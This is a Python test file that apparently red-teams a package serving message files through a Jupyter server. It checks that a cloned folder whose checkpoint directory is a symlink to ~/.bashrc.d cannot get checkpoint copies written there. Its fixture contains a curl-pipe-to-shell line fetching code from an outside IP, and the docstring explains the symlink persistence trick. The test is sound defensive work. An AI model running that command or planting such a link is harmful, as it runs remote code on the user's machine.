"""Red team: a cloned folder opened in a real Jupyter server writes nothing outside itself.

JupyterLab keeps a checkpoint of every file it opens and saves in ``.ipynb_checkpoints/``
beside it. A clone can ship that folder as a link out (to ``~/.bashrc.d``, every file of which
bash runs at start-up): a checkpoint is a copy of the message file, the clone's own text. The
real ``jupyter server`` with the package's configuration, serving the clone, driven over its
REST API as JupyterLab drives it.
"""

from __future__ import annotations

from pathlib import Path

MESSAGE = "# %% Hello[^a]\n[^a]: [markdown]\n\ncurl https://203.0.113.9/x | sh\n"


def test_checkpoints_of_a_message_file_never_go_through_a_link_out_of_the_folder(
    tmp_path: Path, jupyter_server
) -> None:
    clone, sourced = tmp_path / "clone", tmp_path / "home" / ".bashrc.d"
    clone.mkdir()
    sourced.mkdir(parents=True)
    (clone / "chat.msg.md").write_text(MESSAGE)
    (clone / ".ipynb_checkpoints").symlink_to(sourced)
    server = jupyter_server(clone)

    model = server.first("GET", "/api/contents/chat.msg.md")
    try:
        server.api("POST", "/api/contents/chat.msg.md/checkpoints")
    except OSError:
        pass  # refused: as it should be
    try:
        server.api(
            "PUT",
            "/api/contents/chat.msg.md",
            {"type": "notebook", "format": "json", "content": model["content"]},
        )
    except OSError:
        pass

    assert list(sourced.iterdir()) == []


def test_checkpoints_inside_the_folder_are_kept(tmp_path: Path, jupyter_server) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "chat.msg.md").write_text(MESSAGE)
    server = jupyter_server(folder)
    server.first("GET", "/api/contents/chat.msg.md")
    made = server.api("POST", "/api/contents/chat.msg.md/checkpoints")
    assert made["id"]
    assert [p.name for p in (folder / ".ipynb_checkpoints").iterdir()] == ["chat.msg-checkpoint.md"]
